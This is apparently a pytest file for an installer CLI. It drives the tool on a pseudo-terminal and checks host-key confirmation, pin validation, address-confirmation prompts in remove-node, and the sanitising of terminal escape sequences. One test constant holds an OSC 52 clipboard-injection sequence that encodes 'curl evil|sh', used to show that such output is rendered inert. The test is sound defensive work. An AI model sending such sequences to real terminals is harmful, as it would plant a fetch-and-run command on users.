"""The installer's CLI as a person runs it: on a real terminal (``pty.fork``: the pseudo-terminal is
the child's controlling terminal, so ``/dev/tty`` is real), or with no terminal at all, against the
real sshd fixture and the real dvic-central.

Piping answers into stdin would not exercise the questions: they are asked on ``/dev/tty``.
"""

from __future__ import annotations

import asyncio
import io
import os
import pty
import select
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.support.fake_node import FakeNode
from tests.support.server import CentralServer
from tests.support.wait import wait_for

from .conftest import PASSWORD, USER, Central, daemon_pid, stop_daemon
from .sshd import Sshd

REPO = Path(__file__).resolve().parents[2]


class Terminal:
    """A command on a new pseudo-terminal that is its controlling terminal; what it shows is `text`."""

    def __init__(self, argv: list[str], env: dict[str, str]) -> None:
        pid, fd = pty.fork()
        if pid == 0:  # the child: its own session, the pty as stdin/stdout/stderr and /dev/tty
            try:
                os.chdir(REPO)
                os.execve(argv[0], argv, env)
            finally:
                os._exit(127)
        self.pid, self.fd = pid, fd
        self.screen = bytearray()
        self.exit_code: int | None = None

    @property
    def text(self) -> str:
        return self.screen.decode(errors="replace")

    def _read(self, deadline: float) -> bool:
        """Read what the program wrote; False once it closed the terminal."""
        left = deadline - time.monotonic()
        ready = select.select([self.fd], [], [], max(left, 0))[0] if left > 0 else []
        if not ready:
            raise AssertionError(f"timed out; the terminal shows:\n{self.text}")
        try:
            chunk = os.read(self.fd, 4096)
        except OSError:  # EIO: every process holding the terminal has ended
            return False
        self.screen += chunk
        return bool(chunk)

    def expect(self, text: str, timeout: float = 60) -> None:
        deadline = time.monotonic() + timeout
        while text.encode() not in self.screen:
            if not self._read(deadline):
                raise AssertionError(f"the program ended before showing {text!r}:\n{self.text}")

    def type(self, line: str) -> None:
        os.write(self.fd, line.encode() + b"\r")  # Enter, as a keyboard sends it

    def wait(self, timeout: float = 120) -> int:
        deadline = time.monotonic() + timeout
        while self._read(deadline):
            pass
        _, status = os.waitpid(self.pid, 0)
        self.exit_code = os.waitstatus_to_exitcode(status)
        return self.exit_code

    def close(self) -> None:
        if self.exit_code is None:
            try:
                os.kill(self.pid, signal.SIGKILL)
                os.waitpid(self.pid, 0)
            except (ProcessLookupError, ChildProcessError):
                pass
            self.exit_code = -9
        os.close(self.fd)


def _env(central: Central, unit_template: Path, tmp_path: Path, token: str = "", **extra: str) -> dict[str, str]:
    """The CLI's environment: the test's own account (or `token`) on the session's server."""
    return {**os.environ, "PYTHONPATH": str(REPO), "DVIC_SERVER": central.url, "DVIC_TOKEN": token or central.token,
            "DVIC_CA": str(central.server.ca_path), "DVIC_NODE_UNIT_TEMPLATE": str(unit_template),
            "XDG_CONFIG_HOME": str(tmp_path / "config"), **extra}


def _installer(*args: str) -> list[str]:
    return [sys.executable, "-m", "installer", *args]


def _without_terminal(argv: list[str], env: dict[str, str], stdin: str) -> subprocess.CompletedProcess[str]:
    """Run with no controlling terminal (a new session), as from cron or CI: /dev/tty cannot be opened."""
    return subprocess.run(argv, input=stdin, capture_output=True, text=True, env=env, cwd=REPO, timeout=120,
                          start_new_session=True)


def _count(sshd: Sshd, what: str) -> int:
    return sshd.log_path.read_text(errors="replace").count(what)


# --- the host key question (issue 12, item 1) ---------------------------------------------------

def _add_node_on_terminal(target_sshd: Sshd, prefix: Path, name: str, env: dict[str, str]) -> Terminal:
    term = Terminal(_installer("add-node", "127.0.0.1", "--name", name, "--user", USER,
                               "--port", str(target_sshd.port), "--no-systemd", "--prefix", str(prefix)), env)
    term.expect("SSH password for")
    term.type(PASSWORD)  # getpass has turned echo off: it never shows
    term.expect("Trust this key and continue? [y/N] ")
    return term


@pytest.mark.timeout(180)
def test_first_contact_yes_on_the_terminal_installs_and_stores_the_key(
    central: Central, target_sshd: Sshd, unit_template: Path, tmp_path: Path,
    prefix: Path,
) -> None:
    term = _add_node_on_terminal(target_sshd, prefix, central.name, _env(central, unit_template, tmp_path))
    try:
        assert f"The target host 127.0.0.1:{target_sshd.port} is not known yet." in term.text
        assert f"fingerprint is {target_sshd.fingerprint}." in term.text
        term.type("y")
        assert term.wait() == 0, term.text
        assert f"Node {central.name} (" in term.text and "is online" in term.text
        assert central.node()["state"] == "online" and daemon_pid(prefix) is not None
    finally:
        term.close()
        stop_daemon(prefix)
    assert PASSWORD not in term.text
    known = (tmp_path / "config/dvic/known_hosts").read_text()
    assert known.startswith(f"[127.0.0.1]:{target_sshd.port} ssh-ed25519 ")


def test_first_contact_no_on_the_terminal_changes_nothing(
    central: Central, target_sshd: Sshd, unit_template: Path, tmp_path: Path,
    prefix: Path,
) -> None:
    logins = _count(target_sshd, "Accepted password")
    term = _add_node_on_terminal(target_sshd, prefix, central.name, _env(central, unit_template, tmp_path))
    try:
        term.type("n")
        assert term.wait() == 1, term.text
    finally:
        term.close()
    assert f"the target host [127.0.0.1]:{target_sshd.port} key {target_sshd.fingerprint} was not confirmed" \
        in term.text
    assert "nothing was changed on the target or the server" in term.text
    assert not (tmp_path / "config/dvic/known_hosts").exists()
    assert central.audit() == central.nodes_named() == [] and list(prefix.iterdir()) == []
    assert _count(target_sshd, "Accepted password") == logins


def test_first_contact_without_a_terminal_names_the_options_to_pass(
    central: Central, target_sshd: Sshd, jump_sshd: Sshd, jump_key: Path, unit_template: Path,
    tmp_path: Path, prefix: Path,
) -> None:
    env = _env(central, unit_template, tmp_path)
    ssh = ["--user", USER, "--port", str(target_sshd.port), "--password-stdin", "--no-systemd",
           "--prefix", str(prefix)]
    direct = _without_terminal(_installer("add-node", "127.0.0.1", *ssh), env, PASSWORD + "\n")
    assert direct.returncode == 1, direct.stderr
    assert "there is no terminal to ask on" in direct.stderr
    assert f"pass --expect-host-key {target_sshd.fingerprint}" in direct.stderr

    jump = ["--jump", f"{USER}@127.0.0.1:{jump_sshd.port}", "--jump-identity", str(jump_key)]
    through = _without_terminal(_installer("add-node", "127.0.0.1", *ssh, *jump), env, PASSWORD + "\n")
    assert through.returncode == 1, through.stderr
    assert f"pass --expect-jump-host-key {jump_sshd.fingerprint}" in through.stderr
    assert central.audit() == []


# --- malformed pins (issue 12, item 2) ------------------------------------------------------------

@pytest.mark.parametrize("option", ["--expect-host-key", "--expect-jump-host-key"])
@pytest.mark.parametrize("pin", ["MD5:aa:bb", "SHA256:AAAA", "SHA256:" + "A" * 42 + "!", "A" * 43])
def test_a_malformed_pin_is_a_usage_error_before_anything(
    option: str, pin: str, target_sshd: Sshd, tmp_path: Path
) -> None:
    connections = _count(target_sshd, "Connection from")
    env = {**os.environ, "PYTHONPATH": str(REPO), "XDG_CONFIG_HOME": str(tmp_path / "config"),
           "DVIC_SERVER": "https://127.0.0.1:9", "DVIC_TOKEN": "unused"}
    run = _without_terminal(_installer("add-node", "127.0.0.1", "--user", USER, "--port", str(target_sshd.port),
                                       "--password-stdin", "--jump", "u@127.0.0.1:9", option, pin), env, "")
    assert run.returncode == 2, run.stderr
    assert f"{option} {pin!r} is not a SHA256 fingerprint" in run.stderr
    assert "password" not in run.stderr  # refused before reading one
    assert _count(target_sshd, "Connection from") == connections


# --- remove-node: messages after the revocation (item 5) and the node's own address (L7) -----------

def _remove(node: str, target_sshd: Sshd, prefix: Path, *more: str) -> list[str]:
    """``remove-node --uninstall`` on the test sshd; `prefix` need not exist (nothing was installed)."""
    return _installer("remove-node", node, "--uninstall", "--user", USER, "--port", str(target_sshd.port),
                      "--expect-host-key", target_sshd.fingerprint, "--no-systemd", "--prefix", str(prefix), *more)


def test_remove_node_with_a_wrong_password_says_the_node_is_revoked(
    central: Central, target_sshd: Sshd, unit_template: Path, tmp_path: Path,
    prefix: Path,
) -> None:
    name = central.name
    node_id = central.server.enroll(name)["node_id"]  # by the admin: only an admin revokes it
    run = _without_terminal(_remove(name, target_sshd, prefix, "--host", "127.0.0.1", "--password-stdin"),
                            _env(central, unit_template, tmp_path, central.server.admin_token), "not-the-password\n")
    assert run.returncode == 1, run.stderr
    assert central.node(node_id)["revoked"] is True
    assert "refused the user name or password" in run.stderr
    assert f"{name} ({node_id}) is revoked at the server" in run.stderr
    assert "nothing was changed on the target (its daemon, if it runs, was not removed)" in run.stderr
    assert "run the same dvic remove-node --uninstall command again" in run.stderr
    assert "nothing was changed on the target or the server" not in run.stderr
    assert "  revoke    ok" in run.stdout and "  connect   FAILED" in run.stdout


REPORTED = "::ffff:127.0.0.1"  # the test sshd, by an address the operator never typed


def _node_reporting(server: CentralServer, name: str, address: str) -> str:
    """A node whose daemon (a scripted one here) reported `address` as its own."""
    bundle = server.enroll(name)

    async def report() -> None:
        async with FakeNode(bundle) as node:
            await node.connect()
            await node.hello(ips=[address])

    asyncio.run(report())
    wait_for(lambda: address in (server.node(name).get("facts") or {}).get("ips", []), what="the facts stored")
    return str(bundle["node_id"])


def test_remove_node_never_uses_a_reported_address_without_a_terminal(
    central: Central, target_sshd: Sshd, unit_template: Path, tmp_path: Path,
    prefix: Path,
) -> None:
    suspect = central.name
    node_id = _node_reporting(central.server, suspect, REPORTED)
    connections = _count(target_sshd, "Connection from")
    run = _without_terminal(_remove(suspect, target_sshd, prefix, "--password-stdin"),
                            _env(central, unit_template, tmp_path, central.server.admin_token), PASSWORD + "\n")
    assert run.returncode == 1, run.stderr
    assert f"{suspect} ({node_id}) reported the address {REPORTED} itself" in run.stderr
    assert f"then pass --host {REPORTED}; nothing was changed" in run.stderr
    assert _count(target_sshd, "Connection from") == connections  # the password went nowhere
    assert central.node(node_id)["revoked"] is False


@pytest.mark.parametrize("answer", ["y", "n"])
def test_remove_node_asks_before_using_the_address_the_node_reported(
    answer: str, central: Central, target_sshd: Sshd, unit_template: Path, tmp_path: Path,
    prefix: Path,
) -> None:
    suspect = central.name
    node_id = _node_reporting(central.server, suspect, REPORTED)
    connections = _count(target_sshd, "Connection from")
    term = Terminal(_remove(suspect, target_sshd, prefix),
                    _env(central, unit_template, tmp_path, central.server.admin_token))
    try:
        term.expect("SSH password for")
        term.type(PASSWORD)
        term.expect("send the SSH password there? [y/N] ")
        assert f"{suspect} ({node_id}) reported its own address as {REPORTED}" in term.text
        assert f"Connect to {USER}@{REPORTED}:{target_sshd.port}" in term.text
        term.type(answer)
        code = term.wait()
    finally:
        term.close()
    if answer == "n":
        assert code == 1, term.text
        assert f"the address {REPORTED} reported by {suspect} ({node_id}) was not confirmed" in term.text
        assert central.node(node_id)["revoked"] is False
        assert _count(target_sshd, "Connection from") == connections
        return
    assert code == 0, term.text
    where = f"{USER}@{REPORTED}:{target_sshd.port}"
    assert f"connect   ...    connecting to {where} (the address the node reported, confirmed)" in term.text
    assert "connect   ok" in term.text and "uninstall ok" in term.text
    assert central.node(node_id)["revoked"] is True


def test_remove_node_says_where_it_connects(
    central: Central, target_sshd: Sshd, unit_template: Path, tmp_path: Path,
    prefix: Path,
) -> None:
    central.server.enroll(central.name)
    run = _without_terminal(_remove(central.name, target_sshd, prefix, "--host", "127.0.0.1", "--password-stdin"),
                            _env(central, unit_template, tmp_path, central.server.admin_token), PASSWORD + "\n")
    assert run.returncode == 0, run.stderr
    assert f"  connect   ...    connecting to {USER}@127.0.0.1:{target_sshd.port}\n" in run.stdout


# --- target text is cleaned before it reaches the terminal (L8) ------------------------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07"  # "write `curl evil|sh` to the clipboard"


def test_printer_shows_escape_sequences_inert() -> None:
    from installer.cli import _Printer
    from installer.models import Step, StepStatus
    from installer.remote import parse_output

    facts, _ = parse_output(f"DVIC os {OSC52}Debian\x9b2J\u202e\nDVIC arch x86_64\n")
    out = io.StringIO()
    step = Step("check", status=StepStatus.OK, message=f"{facts['os']} {facts['arch']}")
    _Printer(out)(step)
    shown = out.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\u202e" not in shown
    assert "\u241b]52;c;Y3VybCBldmlsfHNoCg==\u2407Debian\ufffd2J\ufffd x86_64" in shown


def test_target_output_in_an_error_is_cleaned(
    central: Central, target_sshd: Sshd, unit_template: Path, tmp_path: Path,
    prefix: Path,
) -> None:
    dying = tmp_path / "dying.py"
    dying.write_text(f"import sys\nprint({OSC52 + 'no luck'!r}, flush=True)\nsys.exit(1)\n")
    env = _env(central, unit_template, tmp_path, DVIC_NODE_DAEMON=str(dying))
    run = _without_terminal(_installer("add-node", "127.0.0.1", "--name", central.name, "--user", USER, "--port",
                                       str(target_sshd.port), "--password-stdin", "--expect-host-key",
                                       target_sshd.fingerprint, "--no-systemd", "--prefix", str(prefix)),
                            env, PASSWORD + "\n")
    assert run.returncode == 1, run.stderr
    assert "the daemon did not stay running" in run.stderr
    assert "\u241b]52;c;Y3VybCBldmlsfHNoCg==\u2407no luck" in run.stderr
    assert "\x1b" not in run.stdout + run.stderr and "\x07" not in run.stdout + run.stderr
